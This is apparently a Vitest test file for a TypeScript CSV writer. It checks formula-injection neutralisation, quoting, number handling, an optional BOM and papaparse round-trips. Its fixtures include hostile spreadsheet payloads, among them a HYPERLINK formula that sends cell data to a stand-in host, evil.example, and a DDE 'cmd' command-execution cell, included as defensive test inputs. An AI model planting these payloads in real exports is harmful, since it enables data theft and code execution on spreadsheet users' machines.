import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { csvText, FORMULA_START } from '../../src/lib/csv-writer.ts';

describe('csvText(): the one CSV writer', () => {
  it('neutralises every cell OWASP lists as a formula start, in the header and in the rows', () => {
    const header = ['=name', '+x', '-y', '@z', 'plain'];
    const rows = [
      ['=HYPERLINK("http://evil.example/?d="&A1,"Click")', '+1+2', '-2+3', '@SUM(1+1)', '=1+2'],
      ['\t=1+2', "\r=cmd|' /C calc'!A0", ' =1+2', '|ping', 'ok'],
    ];
    expect(csvText(header, rows)).toBe(
      [
        `"'=name","'+x","'-y","'@z",plain`,
        `"'=HYPERLINK(""http://evil.example/?d=""&A1,""Click"")","'+1+2","'-2+3","'@SUM(1+1)","'=1+2"`,
        // A leading tab is kept (and apostrophed); a leading space is kept and quoted, never trimmed.
        `"'\t=1+2","'\r=cmd|' /C calc'!A0"," =1+2",|ping,ok`,
        '',
      ].join('\r\n'),
    );
  });

  it('writes numbers as numbers (−1.5 stays a number) but digits given as text as text', () => {
    expect(
      csvText(
        ['v', 't'],
        [
          [-1.5, '-1.5'],
          [0, '0'],
          [1e-7, '+3'],
          [-0, ''],
        ],
      ),
    ).toBe(`v,t\r\n-1.5,"'-1.5"\r\n0,0\r\n1e-7,"'+3"\r\n0,\r\n`);
  });

  it('writes null and undefined as empty cells and quotes commas, quotes and line breaks', () => {
    expect(
      csvText(
        ['a', 'b', 'c'],
        [
          ['x,y', 'say "hi"', null],
          [undefined, 'two\nlines', 'end '],
        ],
      ),
    ).toBe(`a,b,c\r\n"x,y","say ""hi""",\r\n,"two\nlines","end "\r\n`);
  });

  it('starts with a UTF-8 BOM only when asked', () => {
    expect(csvText(['a'], [['東京都']], { bom: true })).toBe('\uFEFFa\r\n東京都\r\n');
    expect(csvText(['a'], [], {})).toBe('a\r\n');
  });

  it('refuses a number that is not finite, naming its place', () => {
    expect(() =>
      csvText(
        ['a', 'b'],
        [
          [1, 2],
          [3, Number.NaN],
        ],
      ),
    ).toThrow(new RangeError('row 2, column 2: expected a finite number, found NaN'));
    expect(() => csvText(['a'], [[Infinity]])).toThrow(new RangeError('row 1, column 1: expected a finite number, found Infinity'));
  });

  it('round-trips through papaparse: every neutralised cell reads back as its text with one apostrophe', () => {
    const hostile = ['=1+2', '+1', '-1', '@a', '\tx', '\rx', 'a"b', 'a,b', ' lead', '', 'trail ', '東京都'];
    const text = csvText(
      ['label'],
      hostile.map((h) => [h]),
    );
    const back = Papa.parse<string[]>(text.trimEnd(), { newline: '\r\n' })
      .data.slice(1)
      .map((row) => row[0]);
    expect(back).toEqual(hostile.map((h) => (FORMULA_START.test(h) ? `'${h}` : h)));
  });
});
